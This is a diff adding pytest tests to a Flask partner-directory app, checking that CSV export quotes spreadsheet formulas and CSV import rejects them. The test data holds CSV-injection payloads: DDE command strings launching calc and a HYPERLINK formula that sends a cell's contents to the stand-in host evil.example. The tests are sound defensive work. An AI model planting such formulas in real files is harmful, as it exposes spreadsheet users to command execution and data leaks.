@@ -2,12 +2,14 @@
 
 from __future__ import annotations
 
+import csv
 import io
+from decimal import Decimal
 from typing import Any
 
 import pytest
 from flask.testing import FlaskClient
-from sqlalchemy import func, select
+from sqlalchemy import delete, func, select
 
 from ehrenamt.core import errors
 from ehrenamt.core.audit import Acting
@@ -84,7 +86,6 @@ def make_partner(
     category: str = "bildung-kultur-unterhaltung",
 ) -> tuple[Partner, User]:
     """A registered partner (approved unless told otherwise) and its first account."""
-    from decimal import Decimal
 
     email = email or f"{name.lower().replace(' ', '')}{id(office)}@example.org"
     partner = partners_registration.register_partner(
@@ -648,3 +649,123 @@ def test_csv_import_is_for_staff_only_even_with_the_office_set(ctx: None, role: 
             office, content, Acting.user_as(someone, Actor.CLERK), dry_run=True
         )
     assert db.session.scalar(select(func.count()).select_from(Partner)) == 0
+
+
+# --- spreadsheet formulas in the CSV (OWASP CSV injection) ---------------------------
+
+#: Values a spreadsheet would run: a link, DDE commands, and a tab or CR before a formula.
+FORMULAS = [
+    '=HYPERLINK("http://evil.example/?x="&A1,"Klick")',
+    "=cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    '+HYPERLINK("http://evil.example")',
+    "-2+3+cmd|' /C calc'!A0",
+    "\t=1+1",
+    "\r=cmd|' /C calc'!A0",
+    "'=cmd|' /C calc'!A0",  # our export's quote does not smuggle one in
+]
+
+
+def _csv(*rows: dict[str, str]) -> str:
+    """A CSV file with the import's columns; each row is a valid partner with changes."""
+    out = io.StringIO()
+    writer = csv.writer(out)
+    writer.writerow(import_export.CSV_COLUMNS)
+    for n, changes in enumerate(rows):
+        row = {
+            "name": f"Laden {n}",
+            "category": "multimedia",
+            "street": "Weg 1",
+            "postcode": "06844",
+            "town": "Dessau",
+            "email": f"laden{n}@example.org",
+            **changes,
+        }
+        writer.writerow([row.get(column, "") for column in import_export.CSV_COLUMNS])
+    return out.getvalue()
+
+
+def test_csv_export_defuses_formulas(client: FlaskClient, ctx: None) -> None:
+    """Every cell a spreadsheet would run gets a leading quote; numbers stay numbers."""
+    office = make_office()
+    names = [
+        '=HYPERLINK("http://evil.example","Klick")',
+        "+1+cmd|' /C calc'!A0",
+        "-Bäckerei-",
+        "@SUM(1+1)",
+        "\tTabulator",
+        "\rWagenrücklauf",
+        "Museum",
+    ]
+    for n, name in enumerate(names):
+        partner, _account = make_partner(
+            office, f"p{n}@example.org", name=name, latitude="-12.5", longitude="51.8"
+        )
+        partner.name = name  # registration strips a tab or CR; older data may have one
+    db.session.commit()
+    sign_in(client, make_user(UserRole.CLERK, office))
+
+    body = client.get("/verwaltung/partner/export.csv").get_data(as_text=True)
+
+    header, *rows = list(csv.reader(io.StringIO(body, newline="")))
+    exported = {row[header.index("name")]: row for row in rows}
+    assert set(exported) == {"'" + name if name[0] in "=+-@\t\r" else name for name in names}, (
+        exported.keys()
+    )
+    # A negative number cannot be a formula and stays a number the import reads again.
+    assert {Decimal(row[header.index("latitude")]) for row in rows} == {Decimal("-12.5")}
+    for row in rows:
+        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row[:9]), row
+
+
+@pytest.mark.parametrize("formula", FORMULAS)
+@pytest.mark.parametrize("column", ["name", "description", "benefit_title"])
+def test_csv_import_refuses_formulas(ctx: None, formula: str, column: str) -> None:
+    """A value a spreadsheet would run is an error at its line; nothing is imported."""
+    office = make_office()
+    categories.ensure_categories()
+    clerk = make_user(UserRole.CLERK, office)
+    content = _csv({}, {column: formula})
+
+    report = import_export.import_csv(
+        office, content, Acting.user_as(clerk, Actor.CLERK), dry_run=False
+    )
+
+    assert not report.imported
+    assert list(report.errors) == [3]
+    assert f"Spalte „{column}“ beginnt wie eine Tabellenformel" in report.errors[3][0]
+    assert db.session.scalar(select(func.count()).select_from(Partner)) == 0
+
+
+def test_csv_import_keeps_plain_values_that_start_with_a_sign(
+    client: FlaskClient, ctx: None
+) -> None:
+    """ "-Bäckerei-", a phone number with "+", a leading tab or CR: data, not formulas.
+    The export quotes them, and the exported file checks clean again."""
+    office = make_office()
+    categories.ensure_categories()
+    sign_in(client, make_user(UserRole.CLERK, office))
+    content = _csv(
+        {"name": "-Bäckerei-", "phone": "+49 (0)340 123456"},
+        {"name": "\tLaden mit Tabulator", "description": "-20 % auf alles"},
+        {"name": "\rLaden mit Wagenrücklauf", "longitude": "-1.5", "latitude": "51"},
+    )
+
+    assert _import(client, content).status_code == 302
+
+    partners = {p.name: p for p in db.session.scalars(select(Partner))}
+    assert set(partners) == {"-Bäckerei-", "Laden mit Tabulator", "Laden mit Wagenrücklauf"}
+    assert partners["-Bäckerei-"].phone == "+49 (0)340 123456"
+    assert partners["Laden mit Tabulator"].description == "-20 % auf alles"
+    exported = client.get("/verwaltung/partner/export.csv").get_data(as_text=True)
+    assert "'-Bäckerei-" in exported and "'+49 (0)340 123456" in exported
+    db.session.execute(delete(Partner))
+    db.session.commit()
+    clerk = make_user(UserRole.CLERK, office)
+    again = import_export.import_csv(
+        office, exported, Acting.user_as(clerk, Actor.CLERK), dry_run=False
+    )
+    assert again.errors == {} and again.imported
+    partners = {p.name: p for p in db.session.scalars(select(Partner))}
+    assert partners["-Bäckerei-"].phone == "+49 (0)340 123456"
+    assert partners["Laden mit Tabulator"].description == "-20 % auf alles"
